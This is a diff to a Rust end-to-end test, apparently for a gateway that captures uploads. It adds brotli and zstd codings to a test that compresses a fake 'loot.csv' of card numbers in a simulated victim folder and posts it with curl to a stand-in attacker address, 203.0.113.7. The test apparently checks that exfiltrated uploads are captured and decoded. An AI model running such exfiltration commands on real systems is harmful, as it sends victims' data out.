@@ -19,12 +19,14 @@ const LOOT: &str = "name,card\njo,4000 0012 3456 7899\n";
 
 /// Content codings, and what packs its standard input so.
 const CODINGS: &[(&str, &str)] = &[
+    ("br", "brotli"),
     (
         "deflate",
         "python3 -c 'import sys, zlib; io = sys.stdin.buffer, sys.stdout.buffer; \
          io[1].write(zlib.compress(io[0].read()))'",
     ),
     ("gzip", "gzip"),
+    ("zstd", "zstd -q"),
 ];
 
 /// Runs a line of the shell in a folder of the victim's where `loot.csv` is.
@@ -65,7 +67,10 @@ fn content(gateway: &Gateway, source: &str) -> Vec<u8> {
 #[ignore = "end to end: needs root"]
 fn compressed_uploads_are_kept_as_they_came_and_decoded() {
     for (coding, program) in CODINGS {
-        let Some(gateway) = Gateway::start(SINKGATE, &["curl", "gzip"], &[]) else { return };
+        let Some(gateway) = Gateway::start(SINKGATE, &["brotli", "curl", "gzip", "zstd"], &[])
+        else {
+            return;
+        };
         let line = format!(
             "{program} <loot.csv >packed && CURL -H 'Content-Encoding: {coding}' \
              --data-binary @packed http://203.0.113.7/up.csv"
